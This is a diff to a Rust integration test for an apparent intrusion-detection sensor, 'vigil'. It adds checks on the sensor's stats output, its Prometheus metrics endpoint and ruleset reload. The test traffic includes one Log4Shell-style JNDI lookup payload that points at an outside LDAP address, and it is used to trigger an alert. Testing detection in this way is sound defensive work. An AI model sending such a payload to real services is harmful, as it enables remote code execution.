@@ -44,6 +44,7 @@ fn start_run_with(lab: &LabGuard, dir: &Path, rules: &str, extra: &[&str]) -> Ru
     let bin = vigil_bin();
     let eve = dir.join("eve.json");
     let audit = dir.join("audit.db");
+    let status = dir.join("stats.json");
     let mut argv = vec![
         bin.to_str().unwrap(),
         "run",
@@ -55,6 +56,8 @@ fn start_run_with(lab: &LabGuard, dir: &Path, rules: &str, extra: &[&str]) -> Ru
         eve.to_str().unwrap(),
         "--audit",
         audit.to_str().unwrap(),
+        "--stats",
+        status.to_str().unwrap(),
         "--http-log",
     ];
     argv.extend_from_slice(extra);
@@ -166,21 +169,90 @@ fn keepalive(lab: &LabGuard, src_port: &str, values: &[&str]) -> Vec<String> {
         .collect()
 }
 
+/// `vigil stats` (JSON and Prometheus), the metrics endpoint, and `vigil
+/// reload`, against the running sensor of the IDS test.
+fn check_stats_and_reload(lab: &LabGuard, dir: &Path) {
+    let status = dir.join("stats.json");
+    let vigil = |args: &[&str]| {
+        let out = std::process::Command::new(vigil_bin())
+            .args(args)
+            .args(["--file", status.to_str().unwrap()])
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "vigil {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let json: Value = serde_json::from_str(&vigil(&["stats", "--format", "json"])).unwrap();
+    let iface = &json["interfaces"][0];
+    assert_eq!(iface["name"], "veth-srv");
+    assert!(iface["packets_seen"].as_u64().unwrap() >= 10, "{json:#}");
+    assert_eq!(iface["records_lost"], 0);
+    assert_eq!(iface["alerts"], 1, "{json:#}");
+    assert_eq!(
+        iface["transactions"], 6,
+        "three requests, three responses: {json:#}"
+    );
+    assert_eq!(json["mode"], "ids");
+    assert_eq!(json["ruleset"]["rules_loaded"], 16);
+    assert!(
+        json["outputs"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|o| o["sent"].as_u64() >= Some(4) && o["healthy"] == true),
+        "{json:#}"
+    );
+    let text = vigil(&["stats", "--format", "prometheus"]);
+    assert!(
+        text.contains("vigil_alerts_total{interface=\"veth-srv\"} 1\n"),
+        "{text}"
+    );
+    let scraped = lab.exec(
+        Side::Server,
+        &["curl", "-sf", "http://127.0.0.1:9464/metrics"],
+    );
+    assert!(
+        scraped.contains("# TYPE vigil_records_lost_total counter"),
+        "{scraped}"
+    );
+    assert!(
+        scraped.contains("vigil_alerts_total{interface=\"veth-srv\"} 1\n"),
+        "{scraped}"
+    );
+    let table = vigil(&["stats"]);
+    assert!(table.contains("IDS mode"), "{table}");
+
+    let out = vigil(&["reload"]);
+    assert!(out.starts_with("reloaded: ruleset"), "{out}");
+    let json: Value = serde_json::from_str(&vigil(&["stats", "--format", "json"])).unwrap();
+    assert_eq!(json["ruleset"]["reloads"], 1);
+}
+
 #[test]
 fn ids_mode_alerts_logs_and_audits() {
     let _serial = serial();
     let lab = LabGuard::up("vt-run-ids");
     let dir = tempfile::tempdir().unwrap();
     let _server = start_server(&lab, &dir.path().join("server.log"));
-    let run = start_run(&lab, dir.path(), &[]);
+    let run = start_run(&lab, dir.path(), &["--metrics-listen", "127.0.0.1:9464"]);
     let replies = keepalive(
         &lab,
         "45001",
         &["hello", "${jndi:ldap://198.51.100.7/a}", "again"],
     );
     assert_eq!(replies, ["ok", "ok", "ok"], "IDS mode never blocks");
-    thread::sleep(Duration::from_millis(500));
+    // The status file is rewritten every second.
+    thread::sleep(Duration::from_millis(2500));
+    check_stats_and_reload(&lab, dir.path());
     stop(run);
+    assert!(
+        !dir.path().join("stats.json").exists(),
+        "a stopped sensor leaves no status file"
+    );
 
     let records = eve_records(dir.path());
     let alerts: Vec<&Value> = records
